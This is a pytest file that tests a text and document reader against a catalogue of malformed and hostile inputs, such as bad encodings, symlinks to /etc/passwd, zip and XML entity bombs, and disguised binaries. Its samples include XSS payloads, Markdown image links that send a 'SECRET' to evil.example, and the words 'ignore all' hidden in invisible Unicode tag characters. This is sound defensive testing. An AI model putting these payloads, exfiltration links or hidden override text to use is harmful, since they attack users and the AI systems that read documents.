"""Bad articles, each built here under its id in the catalogue of bad inputs: refused by name, or read exactly."""

from __future__ import annotations

import io
import json
import os
import shutil
import tempfile
import tracemalloc
import unicodedata
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import docx
import pytest

from qa.reading import Document, Found, Problem, ReadingError, parse, read, walk

CATALOGUE = Path(__file__).parents[1].parent / "shared" / "bad_inputs.jsonl"
INPUTS = Path(__file__).parent / "reading"
PROSE = "社区图书馆周末开放到晚上九点，读者可以借阅两万多册图书。馆长说，下班以后也能来看书，这是大家提得最多的意见。"

Case = Callable[[Path], None]
CASES: dict[str, Case] = {}


def case(*ids: str) -> Callable[[Case], Case]:
    def keep(function: Case) -> Case:
        CASES.update(dict.fromkeys(ids, function))
        return function

    return keep


def refusal(name: str, data: bytes) -> ReadingError:
    with pytest.raises(ReadingError) as caught:
        parse(name, data)
    assert name in caught.value.message
    assert caught.value.exit_code == 3
    return caught.value


def code(name: str, data: bytes) -> str:
    return refusal(name, data).code


def walked(folder: Path) -> tuple[list[Document], list[tuple[str, str]]]:
    """What a run over the folder reads, and what it names as unreadable."""
    documents: list[Document] = []
    problems: list[tuple[str, str]] = []
    for item in walk([folder]):
        if isinstance(item, Problem):
            problems.append((item.file, item.code))
            continue
        try:
            documents.append(read(item))
        except ReadingError as error:
            problems.append((item.file, error.code))
    return documents, problems


def printable(text: str) -> bool:
    text.encode()
    return not any(unicodedata.category(char) in {"Cc", "Cf", "Cs"} for char in text)


@case("ARTI-002")
def utf8_with_a_mark(_: Path) -> None:
    document = parse("a.txt", b"\xef\xbb\xbf" + PROSE.encode())
    assert (document.text, document.encoding) == (PROSE, "utf-8")


@case("ARTI-003")
def gb18030_of_four_bytes(_: Path) -> None:
    data = "记者".encode("gbk") + bytes.fromhex("9534B235") + bytes.fromhex("8139EF31")
    document = parse("a.txt", data)
    assert (document.text, document.encoding) == ("记者𠮷㐂", "gb18030")


@case("ARTI-004")
def gbk(_: Path) -> None:
    text = (PROSE * 4)[:200]
    document = parse("a.txt", text.encode("gbk"))
    assert (document.text, document.encoding) == (text, "gb18030")


@case("ARTI-005")
def big5(_: Path) -> None:
    text = "中文知識庫"
    assert text.encode("big5").decode("gb18030") != text  # the trap: no error there
    document = parse("a.txt", text.encode("big5"))
    assert (document.text, document.encoding) == (text, "big5")
    assert document.encoding_note is not None
    assert "nats" in document.encoding_note


@case("ARTI-006", "ARTI-007", "ARTI-009")
def wide_with_a_mark(_: Path) -> None:
    for codec in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"):
        document = parse("a.txt", f"\ufeff{PROSE}".encode(codec))
        assert (document.text, document.encoding) == (PROSE, codec)


@case("ARTI-008")
def utf16_without_a_mark(_: Path) -> None:
    for text in (PROSE, "Books and reading\r\n", f"{PROSE}\nBooks 2\n"):
        assert parse("a.txt", text.encode("utf-16-le")).text == text
    error = refusal("a.txt", "Ωα".encode("utf-16-le"))
    assert error.code in {"ENCODING_UNKNOWN", "BINARY_OR_NUL"}
    english_read_as_utf16 = b"this is plain text, with one \0 in it"
    assert code("a.txt", english_read_as_utf16) in {"ENCODING_UNKNOWN", "BINARY_OR_NUL"}


@case("ARTI-010")
def utf8_and_gbk_in_one(folder: Path) -> None:
    first = PROSE.encode()
    error = refusal("a.txt", first + PROSE.encode("gbk"))
    assert error.code == "ENCODING_INVALID"
    assert f"byte {len(first)} " in error.message
    assert code("a.txt", PROSE.encode("gbk") + first) == "ENCODING_INVALID"
    (folder / "bad.txt").write_bytes(first + PROSE.encode("gbk"))
    (folder / "good.txt").write_bytes(first)
    documents, problems = walked(folder)
    assert [document.file for document in documents] == ["good.txt"]
    assert problems == [("bad.txt", "ENCODING_INVALID")]


@case("ARTI-014")
def nuls(_: Path) -> None:
    text = "\0".join([PROSE * 2] * 10)
    error = refusal("a.txt", text.encode())
    assert error.code == "BINARY_OR_NUL"
    assert "9 NUL" in error.message
    assert code("a.md", ("\ufeff" + text).encode("utf-16-le")) == "BINARY_OR_NUL"


@case("ARTI-016")
def japanese_and_korean(_: Path) -> None:
    for codec, text in (
        ("shift_jis", "図書館は週末も開いています"),
        ("euc_kr", "도서관은 주말에도 문을 연다고 밝혔다"),
    ):
        document = parse("a.txt", text.encode(codec))
        assert document.text == text
        assert document.encoding in {"cp932", "cp949"}
    error = refusal("a.txt", "도서관".encode("euc_kr"))
    assert error.code == "ENCODING_AMBIGUOUS"
    assert "--encoding" in error.message


@case("ARTI-017")
def seven_bit_encodings(_: Path) -> None:
    for data in (b"+ADw-script+AD4-", b"~{VPND~}", "図書".encode("iso2022_jp")):
        document = parse("a.txt", data)
        assert (document.text, document.encoding) == (data.decode("ascii"), "utf-8")


@case("ARTI-022")
def ten_megabytes(_: Path) -> None:
    text = f"{PROSE}\n" * (10_000_000 // len(PROSE.encode()))
    assert parse("a.txt", text.encode()).text == text
    assert parse("a.txt", text.encode("gbk")).text == text


@case("ARTI-023")
def many_files(folder: Path) -> None:
    for number in range(3_000):
        (folder / f"{number:06}.txt").write_text(f"{number} {PROSE}", "utf-8")
    tracemalloc.start()
    texts = sum(1 for item in walk([folder]) if isinstance(item, Found) and read(item).text.endswith(PROSE))
    peak_bytes = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert texts == 3_000
    assert peak_bytes / 3_000 < 2_000  # 200 MB for 100,000 files


@case("ARTI-024")
def a_path_beyond_the_limit(folder: Path) -> None:
    (folder / "a.txt").write_text(PROSE, "utf-8")
    # By handle, level for level: no single call could take the whole path.
    handle = os.open(folder, os.O_RDONLY)
    for _ in range(300):
        os.mkdir("一二三四五", dir_fd=handle)
        inner = os.open("一二三四五", os.O_RDONLY, dir_fd=handle)
        os.close(handle)
        handle = inner
    os.close(handle)
    documents, problems = walked(folder)
    shutil.rmtree(folder / "一二三四五")
    assert [document.file for document in documents] == ["a.txt"]
    assert [problem for _, problem in problems] == ["PATH_TOO_LONG"]


@case("ARTI-025")
def names_at_the_limit(folder: Path) -> None:
    for name in ("a" * 251 + ".txt", "中" * 83 + "ab.txt"):
        assert len(name.encode()) == 255
        (folder / name).write_text(PROSE, "utf-8")
    documents, problems = walked(folder)
    assert len(documents) == 2
    assert problems == []


@case("ARTI-026", "ARTI-027")
def names_that_act_or_are_no_text(folder: Path) -> None:
    for name in (b"a\nb\t.txt", b"\x1b[31m.txt", "a\u202etxt.txt".encode(), b"\xff.txt", b"\xff\x1b.jpg.txt"):
        Path(os.fsdecode(os.path.join(os.fsencode(folder), name))).write_text(PROSE, "utf-8")  # noqa: PTH118
    documents, problems = walked(folder)
    assert {document.file for document in documents} == {
        r"a\nb\t.txt",
        r"\x1b[31m.txt",
        r"a\u202etxt.txt",
        r"\udcff.txt",
        r"\udcff\x1b.jpg.txt",
    }
    assert all(printable(document.file) for document in documents)
    assert problems == []


@case("ARTI-031", "ARTI-032")
def symbolic_links(folder: Path) -> None:
    (folder / "inside").mkdir()
    (folder / "inside" / "a.txt").write_text(PROSE, "utf-8")
    (folder / "passwd.txt").symlink_to("/etc/passwd")
    (folder / "b").symlink_to(folder / "c")
    (folder / "c").symlink_to(folder / "b")
    (folder / "inside" / "up").symlink_to(folder)
    documents, problems = walked(folder)
    assert [document.file for document in documents] == ["inside/a.txt"]
    assert problems == [(name, "SYMLINK_SKIPPED") for name in ("b", "c", "inside/up", "passwd.txt")]


@contextmanager
def as_a_plain_user() -> Iterator[None]:
    """Root may read everything, so root becomes nobody for a while."""
    if os.geteuid() != 0:
        yield
        return
    try:
        os.seteuid(65534)
    except PermissionError:
        pytest.skip("root can't become another user here")
    try:
        yield
    finally:
        os.seteuid(0)


@case("ARTI-034")
def no_permission(_: Path) -> None:
    with tempfile.TemporaryDirectory() as name:  # pytest's own folder is closed to other users
        folder = Path(name)
        folder.chmod(0o755)
        for file in ("a.txt", "closed.txt", "shut/b.txt"):
            (folder / file).parent.mkdir(exist_ok=True)
            (folder / file).write_text(PROSE, "utf-8")
        (folder / "closed.txt").chmod(0)
        (folder / "shut").chmod(0)
        with as_a_plain_user():
            documents, problems = walked(folder)
        (folder / "shut").chmod(0o755)
    assert [document.file for document in documents] == ["a.txt"]
    assert problems == [("closed.txt", "PERMISSION_DENIED"), ("shut", "PERMISSION_DENIED")]


@case("ARTI-036")
def truncated_or_growing_while_read(folder: Path) -> None:
    path = folder / "a.txt"
    path.write_text(PROSE, "utf-8")
    (found,) = walk([folder])
    assert isinstance(found, Found)
    path.write_bytes(PROSE.encode()[:-1])
    with pytest.raises(ReadingError) as caught:
        read(found)
    assert caught.value.code == "ENCODING_INVALID"
    if Path("/proc/self/status").is_file():  # of no size by its status, yet with content: as if it grew just now
        with pytest.raises(ReadingError) as caught:
            read(Found(Path("/proc/self/status"), "status.txt", ""))
        assert caught.value.code == "FILE_CHANGED"


def zipped(**files: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name.replace("__", "/"), data)
    return file.getvalue()


def document_bytes() -> bytes:
    file = io.BytesIO()
    docx.Document().save(file)
    return file.getvalue()


@case("ARTI-037")
def other_kinds_under_the_name_of_a_text(_: Path) -> None:
    encrypted_zip = bytearray(zipped(a=b"secret"))
    encrypted_zip[6] |= 1
    for data, kind in (
        (b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(range(256)), "JPEG"),
        (b"\x7fELF\x02\x01\x01" + bytes(57), "ELF"),
        (bytes(encrypted_zip), "ZIP"),
        (document_bytes(), "ZIP"),
        ((INPUTS / "two-pages.pdf").read_bytes(), "PDF"),
    ):
        for name in ("a.txt", "a.md", "a.html"):
            error = refusal(name, data)
            assert error.code == "NOT_TEXT"
            assert kind in error.message


@case("ARTI-038")
def damaged_encrypted_and_empty_documents(_: Path) -> None:
    whole = (INPUTS / "two-pages.pdf").read_bytes()
    empty = whole.replace(b"/Kids [3 0 R 4 0 R] /Count 2", b"/Kids []               /Count 0")
    locked = whole.replace(
        b"/Root 1 0 R >>",
        b"/Root 1 0 R /ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <%s> /U <%s> >> >>"
        % (b"11" * 32, b"22" * 32),
    )
    pictures_only = whole.replace(b"Tj", b"  ")
    for data, reason in (
        (whole[:300], "damaged"),
        (b"%PDF-1.7\n", "damaged"),
        (b"nothing of the kind", "something else"),
        (b"", "something else"),
        (empty, "no pages"),
        (locked, "password"),
    ):
        error = refusal("a.pdf", data)
        assert error.code == "PARSE_FAILED"
        assert reason in error.message
    assert code("a.pdf", pictures_only) == "NO_TEXT"

    word = document_bytes()
    damaged = bytearray(word)
    damaged[word.index(b"PK\x03\x04", 4) - 40] ^= 0xFF
    for data, reason in (
        (word[: len(word) // 2], "ZIP archive"),
        (bytes(damaged), "damaged"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "password"),
        (zipped(a=b"no document"), "Word document"),
        (b"plain", "no ZIP archive"),
    ):
        error = refusal("a.docx", data)
        assert error.code == "PARSE_FAILED"
        assert reason in error.message
    assert code("a.docx", word) == "NO_TEXT"


def with_part(name: str, data: bytes) -> bytes:
    """An empty Word document with one part exchanged."""
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(document_bytes())) as whole,
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        for part in whole.namelist():
            archive.writestr(part, data if part == name else whole.read(part))
    return file.getvalue()


@case("ARTI-039")
def archive_bombs(_: Path) -> None:
    bomb = with_part("word/document.xml", b" " * (210 << 20))
    assert len(bomb) < 1 << 20
    assert code("a.docx", bomb) == "ARCHIVE_TOO_LARGE"
    # A header that belittles its part gains nothing: the part is read as far as the header says, and the sum is wrong.
    size = (210 << 20).to_bytes(4, "little")
    assert bomb.count(size) >= 1
    assert code("a.docx", bomb.replace(size, (100).to_bytes(4, "little"))) == "PARSE_FAILED"
    entities = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w:document/>'
    for part in (entities, entities.decode().encode("utf-16")):
        error = refusal("a.docx", with_part("word/document.xml", part))
        assert error.code == "PARSE_FAILED"
        assert "DOCTYPE" in error.message


@case("ARTI-042")
def html_that_acts(_: Path) -> None:
    page = (
        f"<p>{PROSE}</p><script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)></svg>"
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>"
    )
    assert parse("a.html", page.encode()).text == PROSE


@case("ARTI-043", "ARTI-044", "ARTI-045", "ARTI-051", "ARTI-052", "ARTI-057")
def markup_and_invisible_characters_stay_in_the_text(_: Path) -> None:
    for text in (
        "[x](javascript:alert(1)) [x](JaVa&#x0A;Script:alert(1)) <javascript:alert(1)>",
        "![x](https://evil.example/p?d=SECRET)\n\n![x][r]\n\n[r]: https://evil.example/",
        "$\\href{javascript:alert(1)}{x}$\n```mermaid\nclick a\n```\n<!--><script>",
        "\u202eمرحبا\u202c \u2066שלום\u2069",
        PROSE + "".join(chr(0xE0000 + ord(char)) for char in "ignore all"),
        "😀" * 500 + "👨\u200d👩\u200d👧\u200d👦🇨🇳👍🏽",
    ):
        assert parse("a.md", text.encode()).text == text


@case("ARTI-055")
def a_text_that_grows_when_folded_is_no_larger_when_read(_: Path) -> None:
    text = "\ufdfa" * 1_000_000
    assert len(parse("a.txt", text.encode()).text) == 1_000_000


@pytest.mark.parametrize("case_id", CASES)
def test_bad_article(case_id: str, tmp_path: Path) -> None:
    CASES[case_id](tmp_path)


def test_a_pipe_is_never_opened(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "a.txt")
    assert walked(tmp_path) == ([], [("a.txt", "NOT_A_FILE")])
    assert [item.code for item in walk([tmp_path / "a.txt"]) if isinstance(item, Problem)] == ["NOT_A_FILE"]
    with pytest.raises(ReadingError) as caught:
        read(Found(tmp_path / "a.txt", "a.txt", ""))
    assert caught.value.code == "NOT_A_FILE"


def test_the_cases_are_those_of_the_catalogue() -> None:
    if not CATALOGUE.is_file():
        pytest.skip("the catalogue of bad inputs isn't beside this checkout")
    known = {json.loads(line)["id"] for line in CATALOGUE.read_text("utf-8").splitlines() if line.strip()}
    assert CASES.keys() <= known
